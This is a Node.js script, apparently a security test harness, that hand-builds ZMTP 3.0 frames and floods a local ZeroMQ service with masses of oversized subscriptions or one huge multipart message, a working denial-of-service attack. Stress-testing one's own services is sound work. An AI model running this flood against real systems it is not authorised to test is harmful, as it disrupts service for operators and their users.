/**
 * An outsider flooding the master with raw ZMTP 3.0 (no libzmq, so the attacker holds nothing itself):
 *   node zmtp-flood.js subs <port> <count> <bytes>    subscriptions of `bytes` bytes, 1000 per connection
 *   node zmtp-flood.js big <port> <frames> <frameMiB>   one multipart request of frames x frameMiB
 * Prints JSON progress lines ({sent}) and a final {done, sent, connections}.
 */
'use strict';
const net = require('net');

const [mode, port, a, b] = process.argv.slice(2);

function greeting() {
  const g = Buffer.alloc(64);
  g[0] = 0xff;
  g[9] = 0x7f;
  g[10] = 3;
  g.write('NULL', 12, 'ascii');
  return g;
}
function frame(flags, body) {
  if (body.length <= 255) return Buffer.concat([Buffer.from([flags, body.length]), body]);
  const h = Buffer.alloc(9);
  h[0] = flags | 2;
  h.writeBigUInt64BE(BigInt(body.length), 1);
  return Buffer.concat([h, body]);
}
function ready(type) {
  const name = Buffer.from('Socket-Type');
  const v = Buffer.from(type);
  const len = Buffer.alloc(4);
  len.writeUInt32BE(v.length);
  return frame(4, Buffer.concat([Buffer.from([5]), Buffer.from('READY'), Buffer.from([name.length]), name, len, v]));
}
function connect(type) {
  return new Promise((resolve) => {
    const s = net.connect(Number(port), '127.0.0.1');
    s.on('error', () => undefined);
    s.on('connect', () => {
      s.write(greeting());
      s.write(ready(type));
      resolve(s);
    });
    s.on('close', () => resolve(s));
  });
}
const write = (s, buf) => new Promise((resolve) => (s.destroyed ? resolve(false) : s.write(buf, (e) => resolve(!e))));

async function subs(count, bytes) {
  let sent = 0;
  let connections = 0;
  let n = 0;
  while (sent < count) {
    const s = await connect('SUB');
    connections++;
    const batch = [];
    for (let i = 0; i < 1000 && sent + batch.length < count; i++) {
      const body = Buffer.alloc(bytes, 97);
      body[0] = 1;
      body.write(`${n++}:`, 1);
      batch.push(frame(0, body));
    }
    await write(s, Buffer.concat(batch));
    sent += batch.length;
    s.destroy();
    if (connections % 20 === 0) process.stdout.write(JSON.stringify({ sent }) + '\n');
  }
  return { sent, connections };
}

async function big(frames, mib) {
  const body = Buffer.alloc(mib * 1024 * 1024, 7);
  const h = Buffer.alloc(9);
  h[0] = 1 | 2;
  h.writeBigUInt64BE(BigInt(body.length), 1);
  const s = await connect('DEALER');
  let sent = 0;
  await write(s, frame(1, Buffer.from('corr1234')));
  for (let i = 0; i < frames && !s.destroyed; i++) {
    if (i === frames - 1) h[0] = 2;
    if (!(await write(s, h)) || !(await write(s, body))) break;
    sent += body.length;
    if (i % 5 === 0) process.stdout.write(JSON.stringify({ sent }) + '\n');
  }
  s.destroy();
  return { sent, connections: 1 };
}

(mode === 'subs' ? subs(Number(a), Number(b)) : big(Number(a), Number(b))).then((r) => {
  process.stdout.write(JSON.stringify({ done: true, ...r }) + '\n');
  process.exit(0);
});
